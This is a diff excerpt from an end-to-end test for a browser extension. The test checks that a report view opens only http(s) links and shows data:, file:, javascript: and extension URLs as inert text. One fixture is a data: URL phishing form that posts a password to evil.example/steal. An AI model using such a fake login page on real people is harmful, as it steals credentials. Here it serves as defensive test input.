@@ -7,6 +7,8 @@ import { annotationRecord, documentRecord, exportFileText } from './export-files
  * a `data:` phishing page, a local file, `javascript:` and extension pages (our own options page with
  * a one-click grant in its fragment, or another extension's) are shown as text and open nothing.
  */
+test.setTimeout(120_000); // an import and six rows on a shared two-core machine
+
 test('全部报告 opens only http(s) report links; data:, file:, javascript: and extension URLs are plain text', async ({ context, server, extensionId }, testInfo) => {
   const hostile = [
     { title: '伪造登录页', url: 'data:text/html,<form action=https://evil.example/steal><input name=pw>请重新登录</form>' },
